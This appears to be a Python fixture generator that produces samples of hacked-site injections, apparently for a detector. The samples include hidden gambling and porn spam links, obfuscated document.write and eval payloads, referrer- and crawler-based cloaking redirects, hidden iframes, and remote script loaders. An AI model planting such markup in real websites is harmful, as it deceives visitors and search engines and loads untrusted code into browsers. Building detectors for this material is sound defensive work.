# ruff: noqa: E501 - markup reads best as it is sent
"""What intruders leave: one entry a technique, each written as such code is found in the field.

An entry is a function of a random source to the pieces of a page (``head``, ``top``, ``middle``, ``end``), or to a
function that changes the finished page.
"""

from __future__ import annotations

import base64

GAMBLING = (
    "澳门新葡京官网",
    "真人百家乐在线开户",
    "六合彩特码资料",
    "时时彩平台注册",
    "bet365体育投注",
    "皇冠足球比分网",
    "北京赛车pk10计划",
    "威尼斯人娱乐城",
    "澳 门 金 沙 赌 场",
    "博彩公司排名",
    "老虎机游戏下载",
    "足球外围投注网站",
    "開元棋牌官網",
    "亚博体育app下载",
    "网上真钱赌博",
    "开云体育官网登录入口",
)
PORN = (
    "成人电影免费观看",
    "日韩av在线",
    "国产精品视频一区",
    "同城约炮",
    "黄色小说网",
    "裸体美女直播",
    "无码视频专区",
    "情色电影下载",
)
FORGED = (
    "办理毕业证",
    "代办毕业证学位证",
    "刻章办证",
    "办假证",
    "代写毕业论文",
    "传奇私服发布网",
    "信用卡套现",
    "代孕公司",
)
TRADES = GAMBLING + PORN + FORGED
DULL = ("优惠多多", "快乐生活", "老地方", "点击进入", "好东西", "精彩内容")
NAMES = ("wxkjt", "hnsdzs", "bzlgm", "qdxyt", "szhfjx", "tcwlkj", "lyhbsb", "cqzxgs")


def host(rng, *, odd=False):
    if odd:
        return rng.choice(("www.%d.com", "%d.vip", "m.%d.cc", "www.w%d.top")) % rng.randint(10000, 999999)
    return f"www.{rng.choice(NAMES)}{rng.choice('abcdefgh')}.com"


def link(rng, text=None, *, odd=False, extra=""):
    return f'<a href="http://{host(rng, odd=odd)}/" {extra}>{text or rng.choice(TRADES)}</a>'


def links(rng, count=5, *, odd=False):
    return " ".join(link(rng, odd=odd) for _ in range(count))


def strangers(rng, count=6):
    names = rng.sample(NAMES, count)
    return "".join(
        f'<a href="http://www.{name}.com/">{rng.choice(DULL)}{number}</a>' for number, name in enumerate(names)
    )


def display_none(rng):
    style = rng.choice(("display:none", "DISPLAY: none !important", "color:red;display:none;", "display:/**/none"))
    return {"end": f'<div style="{style}">{links(rng)}</div>'}


def display_none_on_each(rng):
    return {"middle": "".join(link(rng, extra='style="display:none"') for _ in range(4))}


def visibility_hidden(rng):
    return {"middle": f'<span style="visibility:hidden;position:absolute">{links(rng, 3)}</span>'}


def off_screen(rng):
    side = rng.choice(("left", "top", "margin-left", "right"))
    distance = rng.choice(("-9999px", "-5000px", "-999em", "-2000px"))
    return {"top": f'<div style="position:absolute; {side} : {distance}">{links(rng)}</div>'}


def off_screen_strangers(rng):
    return {"top": f'<div style="position:fixed;top:-3000px">{strangers(rng)}</div>'}


def zero_box(rng):
    style = rng.choice(
        ("height:0;overflow:hidden", "width:1px;height:1px;overflow:hidden", "max-height:0px;overflow:hidden")
    )
    return {"end": f'<div style="{style}">{links(rng)}</div>'}


def one_pixel_scroll(rng):
    return {"end": f'<div style="overflow:auto;height:1px;width:1px">{strangers(rng)}</div>'}


def text_indent(rng):
    return {"middle": f'<p style="text-indent:-{rng.choice((999, 2000, 9999))}px;white-space:nowrap">{links(rng)}</p>'}


def transparent(rng):
    style = rng.choice(("opacity:0", "filter:alpha(opacity=0);opacity:0.0", "opacity:.01;position:absolute"))
    return {"middle": f'<div style="{style}">{links(rng)}</div>'}


def tiny_font(rng):
    return {"middle": f'<p style="font-size:{rng.choice(("0", "1px", "0px"))};line-height:0">{links(rng)}</p>'}


def same_colour(rng):
    return rng.choice(
        (
            {
                "middle": f'<div style="background:#fff">{link(rng, extra=chr(34).join(("style=", "color:#FFFFFF", "")))}</div>'
            },
            {
                "middle": f'<table bgcolor=white><tr><td><a href="http://{host(rng)}"><font color=white>{rng.choice(TRADES)}</font></a>'
            },
        )
    )


def marquee(rng):
    size = rng.choice(
        ('height="1" width="1" scrollamount="3000"', "width=0 height=0", "scrollamount=10000 width=5 height=5")
    )
    return {"end": f"<marquee {size}>{links(rng)}</marquee>"}


def behind(rng):
    return {"top": f'<div style="position:absolute;z-index:-9999;left:0;top:0">{links(rng)}</div>'}


def clipped(rng):
    style = rng.choice(("position:absolute;clip:rect(0 0 0 0)", "clip-path:inset(100%)", "clip-path: circle(0)"))
    return {"end": f'<div style="{style}">{links(rng)}</div>'}


def scaled(rng):
    return {"end": f'<div style="transform:scale(0)">{links(rng)}</div>'}


def class_rule(rng):
    name = rng.choice(("wrapx", "k1", "TxT"))
    css = rng.choice(
        (
            f".{name}{{display:none}}",
            f"/* x */ div.{name} , p.zz {{ POSITION:absolute; LEFT:-8888px }}",
            f"@media screen {{ .{name} {{ text-indent:-9999px }} }}",
            f".{name} a {{ display : none ! important }}",
            f"<!-- .{name}{{di\\73play:none}} -->",
            f"@charset 'utf-8'; @import url(x.css); .{name}{{height:0;overflow:hidden}}",
        )
    )
    return {"head": f"<style>{css}</style>", "middle": f'<div class="{name}">{links(rng)}</div>'}


def id_rule(rng):
    return {"head": "<style>#pfx9{position:absolute;top:-9000px}</style>", "end": f"<div id=pfx9>{links(rng)}</div>"}


def nested(rng):
    return {"middle": f'<div style="display:none"><table><tr><td><p><b>{links(rng, 2)}</b></p></td></tr></table></div>'}


def hidden_attribute(rng):
    return {"end": f"<section hidden>{links(rng)}</section>"}


def hidden_text_in_link(rng):
    return {"middle": f'<a href="http://{host(rng)}">.<i style="display:none">{rng.choice(TRADES)}</i></a>'}


def noscript(rng):
    return {"end": f"<noscript>{links(rng)}</noscript>"}


def visible(rng):
    return {"middle": f"<p>{links(rng, 2)}</p>"}


def visible_trade_host(rng):
    name = rng.choice(("www.bet365xx.com", "www.xpj8899.com", "www.hg00886.com", "amdc888.com", "www.avtt2018.com"))
    return {"middle": f'<a href="http://{name}/">{rng.choice(DULL)}</a>'}


def hidden_by_script(rng):
    hide = rng.choice(
        (
            'document.getElementById("zz1").style.display="none"',
            "document.getElementById('zz1').style.cssText='display:none'",
            '$("#zz1").hide()',
        )
    )
    return {"end": f'<div id="zz1">{links(rng)}</div><script>{hide};</script>'}


def written_plain(rng):
    return {"end": f"<script>document.write('{link(rng).replace(chr(39), '')}');</script>"}


def written_wrapper(rng):
    opening = rng.choice(
        (
            "document.write('<div style=\"display:none\">');",
            'document.writeln("<di"+"v style=\\"position:absolute;left:-4000px\\">");',
            "document.write(unescape('%3Cdiv%20style%3D%22display%3Anone%22%3E'));",
        )
    )
    return {"end": f"<script>{opening}</script>{links(rng)}<script>document.write('</div>');</script>"}


def written_style(rng):
    return {
        "end": f'<script>document.write("<style>#bt{{display:none}}</style>")</script><div id="bt">{links(rng)}</div>'
    }


def unescaped(rng):
    code = "".join(f"%{byte:02X}" for byte in link(rng, "go").encode())
    return {"end": f'<script language="javascript">document.write(unescape("{code}"))</script>'}


def unescaped_unicode(rng):
    code = "".join(f"%u{ord(sign):04x}" for sign in link(rng))
    return {"end": f"<script>document.write(unescape('{code}'));</script>"}


def char_codes(rng):
    code = ",".join(str(ord(sign)) for sign in link(rng))
    return {"top": f"<script>document.write(String.fromCharCode({code}));</script>"}


def eval_char_codes(rng):
    code = ",".join(str(ord(sign)) for sign in f"document.write('{link(rng, 'x')}')")
    return {"head": f"<script>eval(String.fromCharCode({code}))</script>"}


def code_list(rng):
    code = ", ".join(hex(ord(sign)) for sign in link(rng))
    return {
        "end": f"<script>var t='',a=[{code}];for(var i=0;i<a.length;i++)t+=String.fromCharCode(a[i]);document.write(t)</script>"
    }


def hex_escapes(rng):
    code = "".join(f"\\x{ord(sign):02x}" if ord(sign) < 256 else f"\\u{ord(sign):04x}" for sign in link(rng))
    return {"end": f'<script>var _0xab=["{code}","\\x77\\x72\\x69\\x74\\x65"];document[_0xab[1]](_0xab[0]);</script>'}


def from_base64(rng):
    code = base64.b64encode(link(rng).encode()).decode()
    return {"end": f'<script>document.body.insertAdjacentHTML("beforeend",atob("{code}"));</script>'}


def packed(rng):
    words = f"document|write|a|href|http|www|{rng.choice(NAMES)}z|com|casino"
    code = r"0.1('<2 3=\"4://5.6.7\">8</2>');"
    return {
        "end": "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}"
        "k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'"
        f"+e(c)+'\\\\b','g'),k[c])}}}}return p}}('{code.replace(chr(39), chr(92) + chr(39))}',9,9,'{words}'.split('|'),0,{{}}))</script>"
    }


def reversed_address(rng):
    code = f"http://{host(rng)}/"[::-1]
    return {"head": f"<script>var u='{code}'.split('').reverse().join('');window.location.href=u;</script>"}


def referrer(rng):
    test = rng.choice(
        (
            r"/\.(baidu|sogou|soso|google|bing|so)(\.[a-z0-9\-]+){1,2}\//ig.test(document.referrer)",
            "document.referrer.indexOf('baidu.com')>0||document.referrer.indexOf('so.com')>0",
        )
    )
    act = rng.choice(
        (f'window.location.href="http://{host(rng)}/"', f"location.replace('https://{host(rng, odd=True)}')")
    )
    return {"head": f"<script>if({test}){{{act}}}</script>"}


def referrer_variable(rng):
    return {
        "head": "<script>var s=document.referrer;var se=['baidu','sogou','sm.cn'];for(var i=0;i<se.length;i++){if(s.indexOf(se[i])>-1)"
        f"{{var jump='//{host(rng)}/?p';top.location=jump;break}}}}</script>"
    }


def spider(rng):
    return {
        "head": "<script>if(navigator.userAgent.toLowerCase().match(/baiduspider|sogou web spider|360spider/i)){document.write("
        f"'{link(rng)}')}}</script>"
    }


def spider_title(rng):
    title = "".join(f"&#{ord(sign)};" for sign in rng.choice(GAMBLING))
    script = 'if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu")==-1){document.title="清河县人民政府"}'

    def change(page):
        start, end = page.lower().index("<title>") + 7, page.lower().index("</title>")
        return f"{page[:start]}{title}{page[end:]}".replace("</title>", f"</title><script>{script}</script>", 1)

    return change


def loaded_by_referrer(rng):
    return {
        "end": "<script>(function(){if(/baidu|google/i.test(document.referrer)){var j=document.createElement('script');"
        f"j.src='https://{host(rng)}/tj.js';document.body.appendChild(j)}}}})();</script>"
    }


def encoded_title(rng):
    form = rng.choice(("&#%d;", "&#x%x;", "&#X%X;"))
    title = "".join(form % ord(sign) for sign in f"{rng.choice(GAMBLING)}-{rng.choice(GAMBLING)}")
    return lambda page: replace_title(page, title)


def stuffed_title(rng):
    first, second = rng.sample(GAMBLING, 2)
    return lambda page: replace_title(page, f"{first}_{second}_{rng.choice(PORN)}-欢迎您")


def stuffed_meta(rng):
    words = ",".join(rng.sample(GAMBLING, 4))
    return {
        "head": f'<meta name="keywords" content="{words}"><meta name="description" content="{words}，注册送彩金，信誉平台">'
    }


def replace_title(page, title):
    start, end = page.lower().index("<title>") + 7, page.lower().index("</title>")
    return page[:start] + title + page[end:]


def hidden_frame(rng):
    size = rng.choice(("width=0 height=0", 'width="1" height="1" frameborder="0"', 'style="width:0;height:0;border:0"'))
    return {"end": f"<iframe src='http://{host(rng)}/index.html' {size}></iframe>"}


def frame_off_screen(rng):
    return {
        "end": f'<div style="position:absolute;left:-9999px"><iframe src="http://{host(rng)}/a.htm"></iframe></div>'
    }


def written_frame(rng):
    return {
        "end": f'<script>document.write("<iframe src=http://{host(rng)}/x.html width=0 height=0></iframe>")</script>'
    }


def refresh(rng):
    case = rng.choice(("refresh", "Refresh", "REFRESH"))
    return {
        "head": f'<meta http-equiv="{case}" content="{rng.randint(0, 3)};URL=http://{host(rng, odd=rng.random() < 0.5)}/">'
    }


def after_the_end(rng):
    return lambda page: f"{page}\n{links(rng, 3, odd=True)}"


def strangers_after_the_end(rng):
    return lambda page: f"{page}{strangers(rng)}"


def before_the_start(rng):
    return lambda page: f"{links(rng, 2)}{page}"


def encoded_href(rng):
    href = "".join(f"&#{ord(sign)};" for sign in f"http://{host(rng)}/")
    return {"middle": f'<a href="{href}">{rng.choice(DULL)}</a>'}


def empty_links(rng):
    return {"middle": "".join(f'<a href="http://{host(rng, odd=True)}"></a>' for _ in range(4))}


def doorway(rng):
    rows = "".join(f'<li><a href="/{rng.randint(1, 9999)}.html">{text}</a></li>' for text in GAMBLING[:9])
    return {"middle": f"<ul>{rows}</ul>"}


def inner_html(rng):
    return {
        "end": f"<span id=zx></span><script>document.getElementById('zx').innerHTML='<div style=\"display:none\">{link(rng)}</div>';</script>"
    }


def jquery_append(rng):
    return {"end": f"<script>$('body').append('<p style=\"height:0;overflow:hidden\">{link(rng)}</p>')</script>"}


def encoded_loader(rng):
    code = ",".join(str(ord(sign)) for sign in f"https://{host(rng)}/jquery.js")
    return {
        "head": f"<script>var s=document.createElement('script');s.src=String.fromCharCode({code});"
        "document.head.appendChild(s);</script>"
    }


TECHNIQUES = {
    name: make
    for name, make in list(globals().items())
    if callable(make) and name not in {"host", "link", "links", "strangers", "replace_title", "annotations"}
}
